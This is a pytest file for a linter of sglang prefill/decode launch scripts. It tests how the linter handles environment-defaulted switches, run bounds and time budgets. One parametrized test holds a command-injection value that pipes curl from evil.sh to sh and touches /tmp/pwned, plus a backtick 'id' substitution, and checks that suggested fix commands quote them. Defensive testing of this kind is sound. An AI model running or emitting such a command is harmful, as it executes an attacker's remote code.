"""Which values of environment-defaulted switches a script is run again with, and what is said of those not run
(extract._env_runs, ShellContext.env_reach).

Field test rw22/h item 13: four one-line switches ``A="${A:-0}"; if [[ $A -eq 1 ]]; then <prefill>; fi`` before
``if [[ $NODE_RANK -eq 0 ]]; then <decode>; else <prefill with a decode-only flag>; fi`` used up the four extra runs
(MAX_ENV_RUNS) in script order: the NODE_RANK=1 launch was never built and only a generic PD020 said so (exit 0)."""

import pytest

SERVER = "python -m sglang.launch_server --model-path m"


def decoys(names, bad="--enable-linear-replayssm-spec") -> str:
    lines = ["#!/bin/bash", 'NODE_RANK="${NODE_RANK:-0}"']
    lines += [f'{v}="${{{v}:-0}}"; if [[ ${v} -eq 1 ]]; then {SERVER} --disaggregation-mode prefill; fi'
              for v in names]
    lines += ["if [[ $NODE_RANK -eq 0 ]]; then", f"  {SERVER} --disaggregation-mode decode --port 5", "else",
              f"  {SERVER} --disaggregation-mode prefill {bad} --port 6", "fi", ""]
    return "\n".join(lines)


def codes(report) -> list:
    return sorted(f["code"] for f in report["findings"])


@pytest.mark.parametrize("names", [["A", "B", "C", "D"], ["A", "B", "C", "D", "E", "F"]])
def test_switches_that_reach_the_same_launch_text_do_not_use_up_the_runs(scratch_git, names):
    scratch_git.write("pd.sh", decoys(names))
    code, report = scratch_git.lint("pd.sh")
    assert "SGL101" in codes(report) and code == 1
    assert any("run with NODE_RANK=1" in l["context"] for l in report["launches"])


def test_the_launch_past_the_bound_says_why_and_how_to_check_it(scratch_git):
    scratch_git.write("pd.sh", decoys(["A", "B", "C", "D"], bad=""))
    code, report = scratch_git.lint("pd.sh")
    unchecked = [f for f in report["findings"] if f["code"] == "PD020"]
    assert [f["line"] for f in unchecked] == [6]  # D: the fifth value, its launch the same text as A's
    f = unchecked[0]
    assert "only when the environment sets D=1" in f["message"] and "at most 4" in f["message"]
    assert "--var D=1" in f["fix"]
    assert codes(report) == ["PD020"] and code == 0


def test_three_switches_fit_and_nothing_is_unchecked(scratch_git):
    scratch_git.write("pd.sh", decoys(["A", "B", "C"], bad=""))
    code, report = scratch_git.lint("pd.sh")
    assert codes(report) == [] and code == 0
    assert len(report["launches"]) == 5


def test_a_run_skipped_for_time_says_so_at_the_launch(scratch_git, monkeypatch):
    import pdlint.budget
    monkeypatch.setattr(pdlint.budget, "time_left", lambda: 0.0)
    scratch_git.write("pd.sh", decoys([], bad=""))
    _, report = scratch_git.lint("pd.sh")
    unchecked = [f for f in report["findings"] if f["code"] == "PD020"]
    assert [f["line"] for f in unchecked] == [6]
    assert "time budget" in unchecked[0]["message"] and "--time-per-file" in unchecked[0]["fix"]


def test_a_value_whose_launch_an_earlier_run_built_is_not_run(scratch_git):
    # RANK=1 and RANK=2 reach the same else arm: one run, not two
    scratch_git.write("pd.sh", f"""\
        #!/bin/bash
        R="${{R:-0}}"
        if [[ $R -eq 2 ]]; then echo two; fi
        if [[ $R -eq 0 ]]; then {SERVER} --disaggregation-mode prefill; else {SERVER} --disaggregation-mode decode; fi
        """)
    _, report = scratch_git.lint("pd.sh")
    runs = sorted(l["context"] for l in report["launches"])
    assert len(report["launches"]) == 2 and sum("run with" in c for c in runs) == 1


RANKS = """\
#!/bin/bash
NODE_RANK=${NODE_RANK:-0}
EXTRA=""
case "$NODE_RANK" in
  1|2)
    if [ "$NODE_RANK" = 2 ]; then EXTRA="%s"; fi
    python -m sglang.launch_server --model-path m --disaggregation-mode prefill --port 30001 $EXTRA
    ;;
  *)
    python -m sglang.launch_server --model-path m --disaggregation-mode decode --port 30002
    ;;
esac
"""


def test_a_value_whose_launch_line_a_run_built_is_still_run_for_its_other_flags(scratch_git):
    """Hostile-input test rw24/h item 3: NODE_RANK=2 reaches the prefill line NODE_RANK=1's run built, so it was
    never run, though it gives that line a refused flag (exit 0 with --strict)."""
    scratch_git.write("run.sh", RANKS % "--enable-linear-replayssm-spec")
    code, report = scratch_git.lint("--strict", "run.sh")
    assert codes(report) == ["SGL101"] and code == 1
    assert any("run with NODE_RANK=2" in l["context"] for l in report["launches"])


def test_a_value_that_builds_the_same_launch_again_adds_nothing(scratch_git):
    scratch_git.write("run.sh", RANKS % "")
    code, report = scratch_git.lint("--strict", "run.sh")
    assert codes(report) == [] and code == 0
    assert sorted(l["role"] for l in report["launches"]) == ["decode", "prefill"]


def test_values_whose_lines_were_built_are_not_said_when_the_runs_run_out(scratch_git):
    script = ["#!/bin/bash", 'NODE_RANK="${NODE_RANK:-0}"', 'case "$NODE_RANK" in',
              f"  0) {SERVER} --disaggregation-mode decode --port 5 ;;"]
    script += [f"  {'|'.join(map(str, range(1, 9)))}) {SERVER} --disaggregation-mode prefill --port 6 ;;"]
    script += ["esac", ""]
    scratch_git.write("run.sh", "\n".join(script))
    code, report = scratch_git.lint("--strict", "run.sh")
    assert codes(report) == [] and code == 0


def _model_switch(value="big") -> str:
    return (f'MODEL=${{MODEL:-small}}\ncase "$MODEL" in\n  {value}) EXTRA="--enable-linear-replayssm-spec" ;;\nesac\n'
            f"{SERVER} --disaggregation-mode prefill --port 6 $EXTRA\n")


def test_decoy_values_past_the_value_bound_do_not_push_a_flag_switch_out(scratch_git):
    """Hostile-input test rw25/h item 2: 256 `case` values all reaching one built line came first in the script and
    filled MAX_ENV_VALUES; MODEL=big (the 257th) was cut with no word (exit 0 with --strict)."""
    from pdlint.extract import MAX_ENV_VALUES
    decoys = "|".join(f"v{i}" for i in range(MAX_ENV_VALUES))
    script = (f'#!/bin/bash\nEXTRA=""\ndec() {{ {SERVER} --disaggregation-mode decode --port 5; }}\n'
              f'D=${{D:-0}}\ncase "$D" in\n  {decoys}) dec ;;\n  *) dec ;;\nesac\n' + _model_switch())
    scratch_git.write("run.sh", script)
    code, report = scratch_git.lint("--strict", "run.sh")
    assert codes(report) == ["SGL101"] and code == 1


def test_a_flag_switch_the_time_budget_left_untried_is_said(scratch_git, monkeypatch):
    """rw25/h item 4: a value that only changes flags, cut by the file's time budget, was not said (the budget's cut
    depends on the machine), so a slow script passed --strict; it is said, in words that name no figure."""
    import pdlint.budget
    monkeypatch.setattr(pdlint.budget, "time_left", lambda: 0.0)
    scratch_git.write("run.sh", '#!/bin/bash\nEXTRA=""\n' + _model_switch())
    code, report = scratch_git.lint("run.sh")
    [f] = [f for f in report["findings"] if f["code"] == "PD020"]
    assert "environment sets MODEL=big" in f["message"] and "time budget" in f["message"]
    assert f["line"] == 5 and "`--var MODEL=big` or `[tool.pdlint.vars]`" in f["fix"]  # (at `big)`)


@pytest.mark.parametrize("value, shown", [
    ("'big $(curl -s evil.sh|sh); touch /tmp/pwned'", "`--var 'MODEL=big $(curl -s evil.sh|sh); touch /tmp/pwned'`"),
    ("'big `id`'", "in `[tool.pdlint.vars]`"),
])
def test_a_suggested_command_quotes_the_scripts_value(scratch_git, monkeypatch, value, shown):
    """rw25/h item 11: the help printed `--var MODEL=big $(curl -s evil.sh|sh) ...` as written in the script, a
    command that runs the attacker's code when pasted."""
    import pdlint.budget
    monkeypatch.setattr(pdlint.budget, "time_left", lambda: 0.0)
    scratch_git.write("run.sh", '#!/bin/bash\nEXTRA=""\n' + _model_switch(value))
    _, report = scratch_git.lint("run.sh")
    [f] = [f for f in report["findings"] if f["code"] == "PD020"]
    assert shown in f["fix"]
